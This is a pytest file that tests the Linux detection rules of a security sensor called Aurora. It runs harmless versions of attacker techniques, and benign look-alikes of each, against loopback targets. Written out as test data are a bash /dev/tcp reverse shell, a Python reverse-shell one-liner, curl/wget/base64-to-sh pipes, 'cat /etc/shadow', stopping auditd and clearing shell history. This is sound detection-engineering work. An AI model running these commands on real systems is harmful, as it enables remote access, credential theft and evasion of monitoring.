"""Every rule of Aurora's Linux pack fires on telemetry the real sensor produced from a real action,
and stays quiet on a close benign look-alike of that action.

One LinuxSensor watches the host (default watch paths plus a temporary home tree). Each case runs
a harmless action in a fresh process tree (a reverse shell to a loopback listener, ``curl | sh``
against a local http.server, memfd and deleted-binary execs, writes to cron, authorized_keys,
systemd and account paths that are restored at once, a BPF program load, a ptrace attach, ...),
follows that tree through the sensor's events, and feeds those events to the built-in pack
(``DetectionEngine.load([])``). Only events of the action's own process tree count, so other work
on the host can neither make a case pass nor fail.
"""

from __future__ import annotations

import http.server
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from tests.sensor.conftest import BTF, OBJECTS, REPO

from aurora.config.sensor import DEFAULT_WATCH_PATHS, SensorConfig
from aurora.detection import DetectionEngine
from aurora.detection.rules import BUILTIN_RULES

pytestmark = [pytest.mark.root, pytest.mark.kernel]

Event = dict[str, Any]
PACK = sorted(p.stem for p in (BUILTIN_RULES / "linux").glob("*.yml"))
FINIT_MODULE_TP = Path("/sys/kernel/tracing/events/syscalls/sys_enter_finit_module")


def _lineage(proc: Any) -> set[int]:
    """A process's pid, its parent's and its ancestry's."""
    if not isinstance(proc, dict):
        return set()
    chain = (proc, proc.get("parent_process") or {}, *proc.get("ancestry", []))
    return {p["pid"] for p in chain if isinstance(p.get("pid"), int)}


def _procs(ev: Event) -> list[Any]:
    return [ev.get("process"), ev.get("actor", {}).get("process")]


def _pids_of(ev: Event) -> set[int]:
    """Every pid an event names: its process, actor, their parents and the ancestry."""
    return set().union(*(_lineage(p) for p in _procs(ev)))


class Capture:
    """The running sensor and the pack; ``trigger`` runs an action and returns what fired."""

    def __init__(self, sensor: Any, engine: DetectionEngine, home: Path, tmp: Path) -> None:
        self.sensor = sensor
        self.engine = engine
        self.home = home  # watched, stands in for /home
        self.tmp = tmp  # under /tmp: the exec-only watch and the /tmp rules apply
        self.rule_ids = {
            r.path.stem: str(r.id) for r in engine.rules if r.path is not None and r.path.stem
        }

    def trigger(
        self,
        rule: str,
        argv: list[str],
        check: Callable[[Event], bool] = lambda ev: True,
        timeout_s: float = 10.0,
    ) -> Event:
        """Run ``argv`` to completion, then poll until ``rule`` fires on an event of its tree
        that also satisfies ``check`` (the event the action was meant to produce)."""
        rule_id = self.rule_ids[rule]
        self.sensor.poll(0)  # what happened before this action is not its evidence
        proc = subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
        _, stderr = proc.communicate(timeout=30)
        tree = {proc.pid}
        seen: list[Event] = []
        end = time.monotonic() + timeout_s
        while time.monotonic() < end:
            seen.extend(self.sensor.poll(100))
            # Grow the tree to a fixed point: a process joins once its parent or an ancestor is a
            # member (never the other way: the test runner above the root stays out).
            mine: list[Event] = []
            grown = True
            while grown:
                grown = False
                for ev in seen:
                    if ev in mine or not (_pids_of(ev) & tree):
                        continue
                    mine.append(ev)
                    for p in _procs(ev):
                        if _lineage(p) & tree and p["pid"] not in tree:
                            tree.add(p["pid"])
                            grown = True
            for ev in mine:
                if rule_id in [str(f.rule.id) for f in self.engine.match(ev)] and check(ev):
                    return ev
        summary = [
            (
                e["class_uid"],
                e["activity_id"],
                e.get("process", {}).get("cmd_line") or e.get("file", {}).get("path"),
            )
            for e in seen
            if _pids_of(e) & tree
        ]
        raise AssertionError(
            f"{rule} did not fire; action exit {proc.returncode}, stderr "
            f"{stderr[-300:]!r}; events of its tree: {summary[:20]}"
        )

    def quiet(
        self, rule: str, argv: list[str], seen: Callable[[Event], bool], settle_s: float = 0.5
    ) -> None:
        """Run the look-alike ``argv``; once the event ``seen`` describes has arrived (proof the
        sensor saw the action) and ``settle_s`` more, no event of its tree may fire ``rule``."""
        rule_id = self.rule_ids[rule]
        self.sensor.poll(0)
        proc = subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
        proc.communicate(timeout=30)
        events: list[Event] = []
        end = time.monotonic() + 10.0
        while not any(seen(ev) for ev in events if _pids_of(ev) & {proc.pid}):
            assert time.monotonic() < end, f"the look-alike for {rule} left no trace: {argv}"
            events.extend(self.sensor.poll(100))
        settle = time.monotonic() + settle_s
        while time.monotonic() < settle:
            events.extend(self.sensor.poll(100))
        tree = {proc.pid}
        for ev in events:
            for p in _procs(ev):
                if _lineage(p) & tree and isinstance(p, dict) and isinstance(p.get("pid"), int):
                    tree.add(p["pid"])
        fired = [
            ev
            for ev in events
            if _pids_of(ev) & tree and rule_id in [str(f.rule.id) for f in self.engine.match(ev)]
        ]
        assert not fired, f"{rule} fired on its benign look-alike {argv}: {fired[0]}"


def live_capture(
    tmp_path_factory: pytest.TempPathFactory, config: Callable[[Path], SensorConfig]
) -> Iterator[Capture]:
    """The real sensor with the built-in pack, started with ``config(home)`` where ``home`` is a
    scratch directory standing for /home; stopped and cleaned up when the generator closes."""
    if os.geteuid() != 0:
        pytest.skip("the eBPF sensor needs root")
    if not BTF.is_file():
        pytest.skip("no kernel BTF at /sys/kernel/btf/vmlinux")
    res = subprocess.run(["make", "-s", "-C", str(REPO / "bpf")], capture_output=True, text=True)
    assert res.returncode == 0, res.stderr
    from aurora.sensor.linux import LinuxSensor

    home = tmp_path_factory.mktemp("home")
    tmp = Path(tempfile.mkdtemp(prefix="aurora-live-", dir="/tmp"))
    engine = DetectionEngine.load([])
    assert not engine.errors, [str(e) for e in engine.errors]
    sensor = LinuxSensor(config(home), objects_dir=OBJECTS)
    sensor.start()
    try:
        yield Capture(sensor, engine, home, tmp)
    finally:
        sensor.stop()
        shutil.rmtree(tmp, ignore_errors=True)


@pytest.fixture(scope="module")
def capture(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Capture]:
    yield from live_capture(
        tmp_path_factory, lambda home: SensorConfig(watch_paths=[*DEFAULT_WATCH_PATHS, str(home)])
    )


# --- helpers the actions need -------------------------------------------------------------------


@pytest.fixture
def listener() -> Iterator[int]:
    """A loopback TCP listener playing the attacker: it sends ``exit`` and reads until EOF."""
    srv = socket.create_server(("127.0.0.1", 0))
    srv.settimeout(0.2)
    done = threading.Event()

    def serve() -> None:
        while not done.is_set():
            try:
                conn, _ = srv.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            with conn:
                conn.settimeout(10)
                conn.sendall(b"exit\n")
                try:
                    while conn.recv(4096):
                        pass
                except OSError:
                    pass

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    try:
        yield srv.getsockname()[1]
    finally:
        done.set()
        t.join(timeout=5)
        srv.close()


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def web(tmp_path: Path) -> Iterator[str]:
    """A local http.server serving a harmless script; yields its URL."""
    (tmp_path / "payload.sh").write_text("echo aurora-live-test\n")
    handler = partial(_Quiet, directory=str(tmp_path))
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    t = threading.Thread(target=srv.serve_forever, daemon=True)
    t.start()
    try:
        yield f"http://127.0.0.1:{srv.server_address[1]}/payload.sh"
    finally:
        srv.shutdown()
        srv.server_close()


def py(code: str) -> list[str]:
    return [sys.executable, "-c", code]


# An existing file is opened for appending and closed unchanged; a missing one is created empty
# and removed again. Either way the sensor sees a write-open or a create of that exact path.
TOUCH = """
import os, sys
p = sys.argv[1]
existed = os.path.exists(p)
os.close(os.open(p, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o644))
if not existed:
    os.unlink(p)
"""

EXEC_MEMFD = """
import os, subprocess
fd = os.memfd_create("aurora-live", 0)
os.write(fd, open("/bin/true", "rb").read())
subprocess.run([f"/proc/self/fd/{fd}"], pass_fds=[fd], check=True)
"""

EXEC_DELETED = """
import os, shutil, subprocess, sys
exe = sys.argv[1]
shutil.copy("/bin/true", exe)
fd = os.open(exe, os.O_RDONLY)
os.unlink(exe)
subprocess.run([f"/proc/self/fd/{fd}"], pass_fds=[fd], check=True)
"""

PTRACE_ATTACH = """
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
target = subprocess.Popen(["sleep", "30"])
try:
    assert libc.ptrace(16, target.pid, None, None) == 0, ctypes.get_errno()  # PTRACE_ATTACH
    os.waitpid(target.pid, 0)
    libc.ptrace(17, target.pid, None, None)  # PTRACE_DETACH
finally:
    target.kill()
    target.wait()
"""

SSH_OPTS = ["ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=1"]

# A memfd is made and written, but the program run is the ordinary /bin/true.
MEMFD_NO_EXEC = """
import os, subprocess
fd = os.memfd_create("aurora-live", 0)
os.write(fd, b"not run")
subprocess.run(["/bin/true"], check=True)
"""

# Reads another process's status from /proc, as monitoring tools do; no ptrace.
PROC_STATUS_READ = """
import subprocess
target = subprocess.Popen(["sleep", "30"])
try:
    open(f"/proc/{target.pid}/status").read()
finally:
    target.kill()
    target.wait()
"""

PYTHON_REVERSE_SHELL = (
    "import socket,subprocess,os;s=socket.socket();s.connect(('127.0.0.1',{port}));"
    "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(['/bin/sh','-i'])"
)


@dataclass(frozen=True)
class Case:
    rule: str
    action: Callable[[Capture, dict[str, Any]], list[str]]
    check: Callable[[Event], bool] = lambda ev: True
    fixtures: tuple[str, ...] = ()  # what the action needs: "listener", "web"


def _sh(script: str) -> list[str]:
    return ["/bin/sh", "-c", script]


def _etc_file(directory: str) -> Callable[[Capture, dict[str, Any]], list[str]]:
    name = f"aurora-live-test-{uuid.uuid4().hex[:8]}"
    return lambda c, f: _sh(
        f"echo '# aurora live test, removed at once' > {directory}/{name}; rm -f {directory}/{name}"
    )


CASES = [
    Case(
        "proc_creation_lnx_aurora_reverse_shell",
        lambda c, f: ["/bin/bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{f['listener']} 0>&1"],
        lambda ev: "/dev/tcp/127.0.0.1/" in ev["process"]["cmd_line"],
        ("listener",),
    ),
    Case(
        "proc_creation_lnx_aurora_reverse_shell",
        lambda c, f: py(PYTHON_REVERSE_SHELL.format(port=f["listener"])),
        lambda ev: "os.dup2" in ev["process"]["cmd_line"],
        ("listener",),
    ),
    Case(
        "proc_creation_lnx_aurora_download_pipe_shell",
        lambda c, f: _sh(f"curl -fsS {f['web']} | sh"),
        # the shell running the downloaded script fires through its parent's command line
        lambda ev: (
            ev["process"]["cmd_line"] == "sh"
            and "curl -fsS" in ev["process"]["parent_process"]["cmd_line"]
        ),
        ("web",),
    ),
    Case(
        "proc_creation_lnx_aurora_download_pipe_shell",
        lambda c, f: _sh(f"wget -qO- {f['web']} | sh"),
        lambda ev: (
            ev["process"]["cmd_line"] == "sh"
            and "wget -qO-" in ev["process"]["parent_process"]["cmd_line"]
        ),
        ("web",),
    ),
    Case(
        "proc_creation_lnx_aurora_memfd_exec",
        lambda c, f: py(EXEC_MEMFD),
        lambda ev: ev["unmapped"]["exe_memfd"] is True,
    ),
    Case(
        "proc_creation_lnx_aurora_deleted_binary_exec",
        lambda c, f: [*py(EXEC_DELETED), str(c.tmp / "gone")],
        lambda ev: ev["unmapped"]["exe_deleted"] is True,
    ),
    Case(
        "proc_creation_lnx_aurora_ld_preload_cmdline",
        lambda c, f: ["env", "LD_PRELOAD=/nonexistent/aurora-live.so", "/bin/true"],
        lambda ev: ev["process"]["file"]["path"].endswith("/env"),
    ),
    Case(
        "file_event_lnx_aurora_ld_so_preload",
        lambda c, f: [*py(TOUCH), "/etc/ld.so.preload"],
        lambda ev: ev["file"]["path"] == "/etc/ld.so.preload",
    ),
    Case(
        "file_event_lnx_aurora_authorized_keys",
        lambda c, f: _sh(
            f"mkdir -p {c.home}/alice/.ssh && "
            f"echo 'ssh-ed25519 AAAA aurora-live' >> {c.home}/alice/.ssh/authorized_keys"
        ),
        lambda ev: ev["file"]["path"].endswith("/alice/.ssh/authorized_keys"),
    ),
    Case(
        "file_event_lnx_aurora_cron_write",
        _etc_file("/etc/cron.d"),
        lambda ev: ev["file"]["path"].startswith("/etc/cron.d/aurora-live-test-"),
    ),
    Case(
        "file_event_lnx_aurora_systemd_unit_write",
        lambda c, f: _sh(
            f"mkdir -p {c.home}/bob/.config/systemd/user && printf '[Service]\\n' "
            f"> {c.home}/bob/.config/systemd/user/aurora-live.service"
        ),
        lambda ev: ev["file"]["path"].endswith("/bob/.config/systemd/user/aurora-live.service"),
    ),
    Case(
        "file_event_lnx_aurora_account_files",
        lambda c, f: [*py(TOUCH), "/etc/passwd"],
        lambda ev: ev["file"]["path"] == "/etc/passwd",
    ),
    Case(
        "bpf_program_load_lnx_aurora_unexpected_bpf",
        lambda c, f: _sh(
            f"bpftool prog loadall {OBJECTS / 'dns.bpf.o'} /sys/fs/bpf/aurora-live-{os.getpid()}"
            f"; rc=$?; rm -rf /sys/fs/bpf/aurora-live-{os.getpid()}; exit $rc"
        ),
        lambda ev: ev["actor"]["process"]["file"]["path"].endswith("/bpftool"),
    ),
    Case(
        "process_access_lnx_aurora_ptrace_attach",
        lambda c, f: py(PTRACE_ATTACH),
        lambda ev: ev["unmapped"]["syscall_op"] == "ptrace_attach",
    ),
    Case(
        "proc_creation_lnx_aurora_history_clear",
        lambda c, f: _sh(
            f"mkdir -p {c.home}/carol && echo ls > {c.home}/carol/.bash_history && "
            f"rm -f {c.home}/carol/.bash_history"
        ),
        lambda ev: ev["process"]["file"]["path"].endswith("/rm"),
    ),
    Case(
        "proc_creation_lnx_aurora_history_clear",
        lambda c, f: ["/bin/bash", "-c", "unset HISTFILE; history -c"],
        lambda ev: "unset HISTFILE" in ev["process"]["cmd_line"],
    ),
    Case(
        "file_delete_lnx_aurora_history_deleted",
        lambda c, f: _sh(
            f"mkdir -p {c.home}/dave && echo ls > {c.home}/dave/.bash_history && "
            f"rm -f {c.home}/dave/.bash_history"
        ),
        lambda ev: ev["file"]["path"].endswith("/dave/.bash_history"),
    ),
    Case(
        "proc_creation_lnx_aurora_suid_set",
        lambda c, f: _sh(
            f"cp /bin/true {c.tmp}/suid-true && chmod u+s {c.tmp}/suid-true && "
            f"rm -f {c.tmp}/suid-true"
        ),
        lambda ev: ev["process"]["file"]["path"].endswith("/chmod"),
    ),
    Case(
        "proc_creation_lnx_aurora_exec_from_tmp",
        lambda c, f: _sh(f"cp /bin/true {c.tmp}/run-me && {c.tmp}/run-me"),
        lambda ev: ev["process"]["file"]["path"].endswith("/run-me"),
    ),
    Case(
        "proc_creation_lnx_aurora_timestomp",
        lambda c, f: _sh(f"touch -r /bin/ls {c.tmp}/stomped && rm -f {c.tmp}/stomped"),
        lambda ev: ev["process"]["file"]["path"].endswith("/touch"),
    ),
    Case(
        "file_event_lnx_aurora_shell_profile_write",
        lambda c, f: _sh(f"mkdir -p {c.home}/erin && echo 'alias ll=ls' >> {c.home}/erin/.bashrc"),
        lambda ev: ev["file"]["path"].endswith("/erin/.bashrc"),
    ),
    Case(
        "proc_creation_lnx_aurora_security_tool_tamper",
        lambda c, f: ["systemctl", "stop", "auditd"],
        lambda ev: ev["process"]["file"]["path"].endswith("/systemctl"),
    ),
    Case(
        "proc_creation_lnx_aurora_log_tamper",
        lambda c, f: _sh(f"truncate -s0 /var/log/{LIVE_LOG} && rm -f /var/log/{LIVE_LOG}"),
        lambda ev: ev["process"]["file"]["path"].endswith("/truncate"),
    ),
    Case(
        "proc_creation_lnx_aurora_tunnel_tool",
        lambda c, f: [*SSH_OPTS, "-N", "-D", "11080", "aurora-live@127.0.0.1"],
        lambda ev: ev["process"]["file"]["path"].endswith("/ssh"),
    ),
    Case(
        "proc_creation_lnx_aurora_miner_stratum",
        lambda c, f: _sh("echo stratum+tcp://pool.invalid:3333 > /dev/null"),
        lambda ev: "stratum+tcp://" in ev["process"]["cmd_line"],
    ),
    Case(
        "proc_creation_lnx_aurora_base64_shell",
        lambda c, f: _sh("echo ZWNobyBhdXJvcmE= | base64 -d | sh"),
        lambda ev: "base64 -d | sh" in ev["process"]["cmd_line"],
    ),
    Case(
        "proc_creation_lnx_aurora_setcap_dangerous",
        lambda c, f: _sh(
            f"cp /bin/true {c.home}/capped && setcap cap_setuid+ep {c.home}/capped; "
            f"rm -f {c.home}/capped"
        ),
        lambda ev: ev["process"]["file"]["path"].endswith("/setcap"),
    ),
    Case(
        "proc_creation_lnx_aurora_credential_file_read",
        lambda c, f: ["cat", "/etc/shadow"],
        lambda ev: ev["process"]["file"]["path"].endswith("/cat"),
    ),
    Case(
        "proc_creation_lnx_aurora_immutable_removed",
        lambda c, f: _sh(f"touch {c.home}/locked && chattr -i {c.home}/locked; true"),
        lambda ev: ev["process"]["file"]["path"].endswith("/chattr"),
    ),
]
LIVE_LOG = f"aurora-live-test-{uuid.uuid4().hex[:8]}.log"
NOT_TMP = f"/var/cache/aurora-live-test-{uuid.uuid4().hex[:8]}"


def _exec_of(name: str) -> Callable[[Event], bool]:
    """The look-alike's own ``name`` process was reported."""
    return lambda ev: (
        ev.get("class_uid") == 1007 and ev["process"]["file"]["path"].endswith("/" + name)
    )


def _file_of(suffix: str) -> Callable[[Event], bool]:
    return lambda ev: ev.get("class_uid") == 1001 and ev["file"]["path"].endswith(suffix)


@dataclass(frozen=True)
class LookAlike:
    rule: str
    action: Callable[[Capture, dict[str, Any]], list[str]]
    seen: Callable[[Event], bool]
    fixtures: tuple[str, ...] = ()


LOOK_ALIKES = [
    LookAlike(
        "proc_creation_lnx_aurora_reverse_shell",
        lambda c, f: ["/bin/bash", "-c", "echo see /dev/tcpdump-notes > /dev/null"],
        _exec_of("bash"),
    ),
    LookAlike(
        "proc_creation_lnx_aurora_download_pipe_shell",
        lambda c, f: _sh(f"curl -fsS {f['web']} -o {c.tmp}/page.html; rm -f {c.tmp}/page.html"),
        _exec_of("curl"),
        ("web",),
    ),
    LookAlike(
        "proc_creation_lnx_aurora_memfd_exec",
        lambda c, f: py(MEMFD_NO_EXEC),
        _exec_of("true"),
    ),
    LookAlike(
        "proc_creation_lnx_aurora_deleted_binary_exec",
        lambda c, f: _sh(f"cp /bin/true {c.home}/kept && {c.home}/kept && rm -f {c.home}/kept"),
        _exec_of("kept"),
    ),
    LookAlike(
        "proc_creation_lnx_aurora_ld_preload_cmdline",
        lambda c, f: ["env", "LD_LIBRARY_PATH=/nonexistent/aurora-live", "/bin/true"],
        _exec_of("true"),
    ),
    LookAlike(
        "file_event_lnx_aurora_ld_so_preload",
        lambda c, f: [*py(TOUCH), "/etc/ld.so.conf"],
        _file_of("/etc/ld.so.conf"),
    ),
    LookAlike(
        "file_event_lnx_aurora_authorized_keys",
        lambda c, f: _sh(
            f"mkdir -p {c.home}/alice/.ssh && echo x >> {c.home}/alice/.ssh/known_hosts"
        ),
        _file_of("/alice/.ssh/known_hosts"),
    ),
    LookAlike(
        "file_event_lnx_aurora_cron_write",
        lambda c, f: [*py(TOUCH), f"/etc/crontab.{LIVE_LOG}"],
        _file_of(f"/etc/crontab.{LIVE_LOG}"),
    ),
    LookAlike(
        "file_event_lnx_aurora_systemd_unit_write",
        lambda c, f: _sh(
            f"mkdir -p {c.home}/bob/.config/systemd/user && echo x > "
            f"{c.home}/bob/.config/systemd/user/notes.txt"
        ),
        _file_of("/bob/.config/systemd/user/notes.txt"),
    ),
    LookAlike(
        "file_event_lnx_aurora_account_files",
        lambda c, f: [*py(TOUCH), "/etc/passwd-aurora-live"],
        _file_of("/etc/passwd-aurora-live"),
    ),
    LookAlike(
        "bpf_program_load_lnx_aurora_unexpected_bpf",
        lambda c, f: ["bpftool", "prog", "show"],
        _exec_of("bpftool"),
    ),
    LookAlike(
        "process_access_lnx_aurora_ptrace_attach",
        lambda c, f: py(PROC_STATUS_READ),
        _exec_of("sleep"),
    ),
    LookAlike(
        "proc_creation_lnx_aurora_history_clear",
        lambda c, f: _sh(
            f"mkdir -p {c.home}/carol && echo ls > {c.home}/carol/notes && "
            f"rm -f {c.home}/carol/notes"
        ),
        _exec_of("rm"),
    ),
    LookAlike(
        "file_delete_lnx_aurora_history_deleted",
        lambda c, f: _sh(
            f"mkdir -p {c.home}/dave && echo ls > {c.home}/dave/.bash_history_old "
            f"&& rm -f {c.home}/dave/.bash_history_old"
        ),
        _exec_of("rm"),
    ),
    LookAlike(
        "proc_creation_lnx_aurora_suid_set",
        lambda c, f: _sh(
            f"cp /bin/true {c.tmp}/plain && chmod u+x {c.tmp}/plain && rm -f {c.tmp}/plain"
        ),
        _exec_of("chmod"),
    ),
    LookAlike(
        "proc_creation_lnx_aurora_exec_from_tmp",
        # Not under /tmp (the test's home is): /var/cache, a directory no such rule watches.
        lambda c, f: _sh(
            f"mkdir -p {NOT_TMP} && cp /bin/true {NOT_TMP}/run-here && {NOT_TMP}/run-here; "
            f"rm -rf {NOT_TMP}"
        ),
        _exec_of("run-here"),
    ),
    LookAlike(
        "proc_creation_lnx_aurora_timestomp",
        lambda c, f: _sh(f"touch {c.tmp}/fresh && rm -f {c.tmp}/fresh"),
        _exec_of("touch"),
    ),
    LookAlike(
        "file_event_lnx_aurora_shell_profile_write",
        lambda c, f: _sh(f"mkdir -p {c.home}/erin && echo x >> {c.home}/erin/.bashrc.bak"),
        _file_of("/erin/.bashrc.bak"),
    ),
    LookAlike(
        "proc_creation_lnx_aurora_security_tool_tamper",
        lambda c, f: ["systemctl", "status", "auditd"],
        _exec_of("systemctl"),
    ),
    LookAlike(
        "proc_creation_lnx_aurora_log_tamper",
        lambda c, f: ["tail", "-n1", "/var/log/dpkg.log"],
        _exec_of("tail"),
    ),
    LookAlike(
        "proc_creation_lnx_aurora_tunnel_tool",
        lambda c, f: ["ssh", "-V"],
        _exec_of("ssh"),
    ),
    LookAlike(
        "proc_creation_lnx_aurora_miner_stratum",
        lambda c, f: _sh("echo stratum-notes > /dev/null"),
        lambda ev: ev.get("class_uid") == 1007,  # the shell itself (sh may be dash or bash)
    ),
    LookAlike(
        "proc_creation_lnx_aurora_base64_shell",
        lambda c, f: _sh("echo ZWNobyBhdXJvcmE= | base64 -d > /dev/null"),
        _exec_of("base64"),
    ),
    LookAlike(
        "proc_creation_lnx_aurora_setcap_dangerous",
        lambda c, f: _sh(
            f"cp /bin/true {c.home}/web && setcap cap_net_bind_service+ep {c.home}/web; "
            f"rm -f {c.home}/web"
        ),
        _exec_of("setcap"),
    ),
    LookAlike(
        "proc_creation_lnx_aurora_credential_file_read",
        lambda c, f: ["cat", "/etc/passwd"],
        _exec_of("cat"),
    ),
    LookAlike(
        "proc_creation_lnx_aurora_immutable_removed",
        lambda c, f: _sh(f"touch {c.home}/listed && lsattr {c.home}/listed; true"),
        _exec_of("lsattr"),
    ),
]


def _case_id(case: Case) -> str:
    n = sum(1 for c in CASES[: CASES.index(case)] if c.rule == case.rule)
    return case.rule.replace("_lnx_aurora_", ":") + (f"-{n + 1}" if n else "")


def test_every_rule_of_the_pack_has_a_live_case() -> None:
    # Rules over the authentication bridge's events are proven live with a real sshd and sudo.
    from tests.integration.test_credential_read_live import LIVE_RULES as READ_RULES
    from tests.integration.test_escape_rules_live import ESCAPE_CASES, ESCAPE_LOOK_ALIKES
    from tests.plugins.test_ssh_e2e import LIVE_RULES

    # The file-read and DNS-over-TCP rules run live with a read watch list of their own.
    LIVE_RULES = LIVE_RULES | READ_RULES
    covered = {c.rule for c in [*CASES, *ESCAPE_CASES]} | {"driver_load_lnx_aurora_kernel_module"}
    covered |= LIVE_RULES
    assert covered == set(PACK)
    # Module loads cannot be made here (no module support); the golden negative covers it. The
    # sshd/sudo test runs the authentication rules' look-alikes (good logins, a benign sudo).
    quiet = {c.rule for c in [*LOOK_ALIKES, *ESCAPE_LOOK_ALIKES]} | LIVE_RULES
    quiet |= {"driver_load_lnx_aurora_kernel_module"}
    assert quiet == set(PACK)


@pytest.mark.parametrize("case", LOOK_ALIKES, ids=lambda c: c.rule.replace("_lnx_aurora_", ":"))
def test_rule_stays_quiet_on_its_benign_look_alike(
    capture: Capture, case: LookAlike, request: pytest.FixtureRequest
) -> None:
    argv = case.action(capture, {name: request.getfixturevalue(name) for name in case.fixtures})
    capture.quiet(case.rule, argv, case.seen)


@pytest.mark.parametrize("case", CASES, ids=_case_id)
def test_rule_fires_on_its_real_action(
    capture: Capture, case: Case, request: pytest.FixtureRequest
) -> None:
    argv = case.action(capture, {name: request.getfixturevalue(name) for name in case.fixtures})
    capture.trigger(case.rule, argv, case.check)


def test_kernel_module_rule_fires_or_its_hook_is_reported_missing(capture: Capture) -> None:
    """Module loads need the init_module/finit_module tracepoints. Where the kernel has them,
    a refused finit_module attempt must fire the rule; where it does not (no module support, as
    on the development VM), the sensor must say so in its capability report, which is what this
    case asserts instead: the rule cannot fire live without the hook."""
    caps = {c.name: c for c in capture.sensor.capabilities()}
    if not FINIT_MODULE_TP.is_dir():
        cap = caps["kernel/handle_finit_module"]
        assert cap.loaded is False and "handle_finit_module" in cap.reason
        assert caps["kernel/handle_init_module"].loaded is False
        assert caps["kernel"].loaded is True  # the BPF hook of the same family still runs
        return
    code = (
        "import ctypes, os; fd = os.open('/dev/null', os.O_RDONLY); "
        "ctypes.CDLL(None).syscall(313, fd, b'', 0)"
    )
    ev = capture.trigger("driver_load_lnx_aurora_kernel_module", py(code))
    assert ev["driver"]["file"]["path"] == "/dev/null"
